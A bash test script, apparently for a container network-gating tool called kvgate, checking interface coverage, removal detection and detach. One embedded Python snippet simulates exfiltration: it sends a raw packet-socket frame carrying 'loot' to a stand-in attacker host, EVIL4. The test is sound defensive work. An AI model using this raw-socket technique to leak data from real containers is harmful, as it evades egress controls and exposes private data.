#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# --pid gates all veths of a container; what leads out by another interface only (bridge, VXLAN, a veth
# with both ends inside) is not in the way. Attached again it takes up a new interface and forgets one
# that is gone; detach leaves nothing on any of them.
. "$(dirname "$0")/lib.sh"
need_program jq
container udp/9000
ip -n "$CLIENT" link add eth1 type veth peer name second netns "$HOST"
ip -n "$HOST" link set second up
ip -n "$CLIENT" link set eth1 up
ip -n "$CLIENT" link add inner type veth peer name outer
ip -n "$CLIENT" link add br7 type bridge
ip -n "$CLIENT" link add vx7 type vxlan id 7 dstport 4789 remote 192.0.2.1

interfaces() { kvgate status --json | jq -r '[.gates[0].interfaces[].name] | sort | join(" ")'; }
gate
same "interfaces" "client second" "$(interfaces)"
same "healthy" true "$(kvgate status --json | jq '.gates[0].healthy')"

# A frame on the second one is judged, too; by whom else in the namespace, for the LSM may keep the client
# from packet sockets.
attack_by <<'PYTHON'
from attacker import *
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
sock.bind(("eth1", 0))
with attempt("frame"):
    sock.send(b"\xff" * 6 + bytes(6) + b"\x08\x00" + ip4(EVIL4, 17, udp_body(EVIL4, 9000, loot("second"))))
PYTHON
next_run
client "${ATTACK[@]}" >/dev/null || fail "the frame was not sent"
second() { kvgate status --json | jq '.gates[0].interfaces[] | select(.name == "second") | .refused_packets'; }
same "refused on the second" 1 "$(second)"

ip -n "$HOST" link del second
said=$(kvgate status) && fail "an interface that is gone was not noticed"
holds "$said" 'problem .*"second" is gone'
ip -n "$CLIENT" link add eth2 type veth peer name third netns "$HOST"
gate
same "interfaces" "client third" "$(interfaces)"
kvgate status >/dev/null || fail "$(kvgate status)"

kvgate detach "$CG" >/dev/null
nothing_attached
same "qdiscs" "" "$(tc -n "$HOST" qdisc show dev third | grep -v noop || true)"
